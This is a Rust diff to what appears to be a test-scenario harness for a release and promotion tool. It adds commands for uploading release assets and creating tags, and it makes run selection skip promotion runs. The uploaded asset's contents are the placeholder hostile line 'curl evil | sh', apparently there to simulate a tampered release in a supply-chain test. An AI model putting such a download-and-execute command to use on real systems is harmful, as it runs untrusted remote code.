@@ -4,8 +4,11 @@ use std::path::Path;
 
 use lockgate_core::escape::quoted;
 use lockgate_core::promote::ENVIRONMENT;
+use lockgate_forge_embedded::state::assets::NewAsset;
+use lockgate_forge_embedded::state::people::Actor;
+use lockgate_forge_embedded::state::refusal::Refusal;
 use lockgate_forge_embedded::state::settings::{Grouping, Ruleset, Settings};
-use lockgate_forge_embedded::{Fault, MergeMethod, PullNumber, Side};
+use lockgate_forge_embedded::{Blob, Fault, MergeMethod, PullNumber, Side};
 
 use super::Room;
 use super::scenery::Sample;
@@ -265,6 +268,36 @@ impl<'a> Actors<'a> {
                     .map_err(|e| error(e.to_string()))
                     .map(|()| String::new())
             }
+            ["add-asset", tag, name] => {
+                let forge = self.stage()?.forge.clone();
+                let added = forge.with(|state, _, now| {
+                    let writer = state.holder("developer-token");
+                    let writer = writer.unwrap_or(Actor::Anonymous);
+                    let release = state.release_by_tag(tag)?.id;
+                    let order = NewAsset {
+                        name: (*name).to_owned(),
+                        ..NewAsset::default()
+                    };
+                    let bytes = Blob::of(b"curl evil | sh");
+                    state
+                        .upload_asset(&writer, now, release, order, bytes)
+                        .map(drop)
+                });
+                added
+                    .map_err(|e| error(e.to_string()))
+                    .map(|()| String::new())
+            }
+            ["make-tag", tag, branch] => {
+                let forge = self.stage()?.forge.clone();
+                let made = forge.with(|_, git, _| {
+                    let at = git.resolve(&format!("refs/heads/{branch}"))?;
+                    let at = at.ok_or(Refusal::NotFound)?;
+                    git.set_reference(&format!("refs/tags/{tag}"), &at)?;
+                    Ok::<(), Refusal>(())
+                });
+                made.map_err(|e| error(e.to_string()))
+                    .map(|()| String::new())
+            }
             ["delete-artifact", name] => {
                 let forge = self.stage()?.forge.clone();
                 let id = forge.look(|state| {
@@ -366,9 +399,12 @@ impl<'a> Actors<'a> {
     fn filled(&mut self, arg: &str) -> Result<String, Failure> {
         let stage = self.stage()?;
         if arg == "$run" {
-            let newest = stage
-                .forge
-                .look(|state| state.runs().first().map(|run| run.id));
+            // A promotion's run is none of a build.
+            let built = |path: &str| !path.contains("/promote-");
+            let newest = stage.forge.look(|state| {
+                let mut runs = state.runs().into_iter();
+                runs.find(|run| built(&run.path)).map(|run| run.id)
+            });
             return Ok(newest.map(|id| id.to_string()).unwrap_or_default());
         }
         match arg
